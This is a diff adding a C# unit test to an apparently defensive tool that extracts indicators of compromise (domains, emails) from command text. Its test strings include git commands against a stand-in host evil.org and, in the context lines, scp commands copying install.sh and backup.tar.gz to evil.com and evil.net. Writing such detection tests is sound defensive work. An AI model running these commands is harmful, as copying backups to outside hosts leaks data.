@@ -112,6 +112,14 @@ namespace B64Hunt.Tests.Iocs
         }
 
         [Fact]
+        public void GitConfigKeysAreNotDomainsAndGitRemotesAreLogins()
+        {
+            string text = "git config --global user.email dev@evil.com && git config user.name x && git clone git@evil.org:a/b.git";
+            Assert.Equal(new[] { "evil.com", "evil.org" }, Of(text, IocTypeNames.Dns));
+            Assert.Equal(new[] { "dev@evil.com" }, Of(text, IocTypeNames.Email));
+        }
+
+        [Fact]
         public void ScpCopiesFilesToHosts()
         {
             string text = "scp install.sh root@evil.com:/tmp/ && scp -i key.pem backup.tar.gz evil.net:/srv/";
